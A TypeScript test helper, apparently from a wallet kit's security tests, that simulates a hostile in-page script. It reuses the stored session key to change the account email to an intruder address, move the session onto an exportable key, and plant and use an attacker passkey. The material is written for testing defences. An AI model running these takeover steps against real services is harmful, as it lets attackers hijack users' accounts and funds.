/** A hostile script in the page: it uses the page's own means, without a call of the wallet. */
import { generateSigningKeyPair, stamp, type SessionSigningKey } from '../../src/kit/crypto/signing/index.ts';
import { encodeBase64url, encodeUtf8 } from '../../src/kit/encoding/index.ts';
import { createPasskey, type Passkey } from '../../sandbox/test/service/authenticator.ts';

/** A session of the intruder's own, by a key that it can take away. */
export interface Taken {
  readonly sessionId: string;
  readonly compressedPublicKeyHex: string;
  readonly privateKey: JsonWebKey;
}

interface StoredSession extends SessionSigningKey {
  readonly sessionId: string;
}

interface Call {
  readonly method: string;
  readonly path: string;
  readonly body?: string;
}

const signatureHeader = 'Service-Wallet-Signature';
let planted: Passkey | undefined;

/** The session that the kit has stored, with the key that nobody can export and everybody in the page can use. */
async function storedSession(): Promise<StoredSession> {
  const database = await outcomeOf(indexedDB.open('countersign'));
  const [name = ''] = database.objectStoreNames;
  const records = await outcomeOf(database.transaction(name).objectStore(name).getAll());
  database.close();
  const found = (records as { session?: StoredSession }[]).find(({ session }) => session !== undefined);
  if (found?.session === undefined) throw new Error('no session is stored');
  return found.session;
}

function outcomeOf<Result>(request: IDBRequest<Result>): Promise<Result> {
  return new Promise((resolve, reject) => {
    request.addEventListener('success', () => resolve(request.result));
    request.addEventListener('error', () => reject(request.error ?? new Error('no result')));
  });
}

async function send(relay: string, call: Call, headers: Record<string, string> = {}): Promise<Response> {
  const type = call.body === undefined ? {} : { 'Content-Type': 'application/json' };
  const body = call.body === undefined ? {} : { body: call.body };
  return fetch(`${relay}${call.path}`, { method: call.method, headers: { ...type, ...headers }, ...body });
}

/** Signs any payload of the service. */
async function signed(relay: string, call: Call, key: SessionSigningKey): Promise<Response> {
  const asked = await send(relay, call);
  if (asked.status !== 202) return asked;
  const { payloadToSign, requestId } = (await asked.json()) as Record<'payloadToSign' | 'requestId', string>;
  return send(relay, call, { [signatureHeader]: await stamp(payloadToSign, key), 'Request-Id': requestId });
}

/** A key that the intruder can export. */
async function makeOwnKey(): Promise<SessionSigningKey & { readonly privateKey: JsonWebKey }> {
  const { subtle } = crypto;
  const pair = await subtle.generateKey({ name: 'ECDSA', namedCurve: 'P-256' }, true, ['sign']);
  const raw = new Uint8Array(await subtle.exportKey('raw', pair.publicKey));
  const hex = Array.from(raw.subarray(1, 33), (byte) => byte.toString(16).padStart(2, '0')).join('');
  const compressedPublicKeyHex = `0${2 + ((raw[64] ?? 0) & 1)}${hex}`;
  const privateKey = await subtle.exportKey('jwk', pair.privateKey);
  return { compressedPublicKeyHex, signingKey: pair.privateKey, privateKey };
}

/** Has codes sent to the intruder from now on. */
export async function changeEmail(relay: string, customerId: string): Promise<number> {
  const call = { method: 'PATCH', path: `/customers/${customerId}`, body: '{"email":"intruder@example.com"}' };
  return (await signed(relay, call, await storedSession())).status;
}

/** Has the stored session refreshed to a key of the intruder's own. */
export async function takeOver(relay: string): Promise<Taken> {
  const session = await storedSession();
  const { compressedPublicKeyHex, privateKey } = await makeOwnKey();
  const body = JSON.stringify({ clientPublicKey: compressedPublicKeyHex });
  const call = { method: 'POST', path: `/auth/sessions/${session.sessionId}/refresh`, body };
  const answer = await signed(relay, call, session);
  const { id } = (await answer.json()) as { id: string };
  return { sessionId: id, compressedPublicKeyHex, privateKey };
}

/** Adds a passkey of the intruder's own to the account. */
export async function plantPasskey(relay: string, accountId: string): Promise<{ status: number; id: string }> {
  const path = '/passkey-challenge';
  const asked = await send(relay, { method: 'POST', path, body: JSON.stringify({ accountId }) });
  const { challenge } = (await asked.json()) as { challenge: string };
  if (!asked.ok) return { status: asked.status, id: '' };
  planted = await createPasskey('planted');
  const attestation = await planted.attest({ challenge, origin: location.origin, relyingParty: location.hostname });
  const body = JSON.stringify({ type: 'PASSKEY', accountId, nickname: 'Phone', challenge, attestation });
  const answer = await signed(relay, { method: 'POST', path: '/auth/credentials', body }, await storedSession());
  return { status: answer.status, id: ((await answer.json()) as { id: string }).id };
}

/** Signs in with the planted passkey, and asks nobody. */
export async function signInByPlanted(relay: string, credentialId: string): Promise<string> {
  if (planted === undefined) throw new Error('no passkey was planted');
  const { compressedPublicKeyHex: clientPublicKey } = await generateSigningKeyPair();
  const path = `/auth/credentials/${credentialId}`;
  const body = JSON.stringify({ clientPublicKey });
  const asked = await send(relay, { method: 'POST', path: `${path}/challenge`, body });
  const given = (await asked.json()) as Record<'challenge' | 'requestId', string>;
  const challenge = encodeBase64url(encodeUtf8(given.challenge));
  const assertion = await planted.assert({ challenge, origin: location.origin, relyingParty: location.hostname });
  const verify = { method: 'POST', path: `${path}/verify`, body: JSON.stringify({ type: 'PASSKEY', assertion }) };
  const answer = await send(relay, verify, { 'Request-Id': given.requestId });
  return ((await answer.json()) as { id: string }).id;
}
